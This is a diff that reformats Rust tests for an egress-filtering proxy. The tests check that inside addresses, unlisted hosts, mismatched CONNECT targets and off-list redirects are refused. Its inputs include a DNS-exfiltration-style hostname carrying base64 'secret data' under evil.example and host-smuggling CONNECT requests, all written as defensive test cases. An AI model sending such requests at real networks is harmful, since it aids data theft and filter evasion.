@@ -88,10 +88,14 @@ async fn a_name_that_leads_inside_is_refused_by_its_address() {
         refused(&world.get(&format!("http://{at}/")).await, code::EGRESS_ADDRESS);
         let tunnel = world.raw(format!("CONNECT {at} HTTP/1.1\r\nHost: {at}\r\n\r\n")).await;
         refused(&tunnel, code::EGRESS_ADDRESS);
-        assert!(!tunnel.contains(&format!("{address} ")) && !tunnel.contains(&format!("{address}\"")), "no map: {tunnel}");
+        assert!(
+            !tunnel.contains(&format!("{address} ")) && !tunnel.contains(&format!("{address}\"")),
+            "no map: {tunnel}"
+        );
     }
     assert_eq!(canary.connections(), 0);
-    let named = world.record.entries().into_iter().filter(|e| matches!(e.event, Event::Denied { address: Some(_), .. }));
+    let named =
+        world.record.entries().into_iter().filter(|e| matches!(e.event, Event::Denied { address: Some(_), .. }));
     assert_eq!(named.count(), 2 * inside.len(), "the record names the address");
 }
 
@@ -102,7 +106,10 @@ async fn no_question_leaves_for_an_unlisted_host() {
     for n in 0..20 {
         let host = format!("{n}.c2VjcmV0IGRhdGE.evil.example");
         refused(&world.get(&format!("http://{host}/")).await, code::EGRESS_DENIED);
-        refused(&world.raw(format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n")).await, code::EGRESS_DENIED);
+        refused(
+            &world.raw(format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n")).await,
+            code::EGRESS_DENIED,
+        );
         refused(&world.get(&format!("http://api.test:{}/", server.port + 1)).await, code::EGRESS_DENIED);
     }
     assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
@@ -151,7 +158,9 @@ async fn a_host_has_one_name_in_one_place() {
     for host in ["xapi.test", "api.test.evil.example", "api.testx", "api-test"] {
         refused(&world.get(&format!("http://{host}:{port}/")).await, code::EGRESS_DENIED);
     }
-    for (target, host) in [("api.test.:443", "api.test.:443"), ("a@api.test:443", "api.test:443"), ("api.test:443", "evil.test:443")] {
+    for (target, host) in
+        [("api.test.:443", "api.test.:443"), ("a@api.test:443", "api.test:443"), ("api.test:443", "evil.test:443")]
+    {
         refused(&world.raw(format!("CONNECT {target} HTTP/1.1\r\nHost: {host}\r\n\r\n")).await, code::EGRESS_HOST);
     }
     assert_eq!((server.connections(), world.dns.asked().len()), (0, 0));
@@ -165,7 +174,8 @@ async fn a_redirect_off_the_list_leads_nowhere() {
     let location = format!("Location: http://127.0.0.1:{}/\r\n", canary.port);
     let server = Server::http(move |_| full("302 Found", &location, "")).await;
     world.host("api.test");
-    world.rules(json!([{ "host": "api.test", "scheme": "http", "ports": [server.port], "addresses": ["127.0.0.0/8"] }]));
+    world
+        .rules(json!([{ "host": "api.test", "scheme": "http", "ports": [server.port], "addresses": ["127.0.0.0/8"] }]));
     let url = format!("http://api.test:{}/", server.port);
     let answer = world.get(&url).await;
     assert!(answer.starts_with("HTTP/1.1 302 Found"), "{answer}");
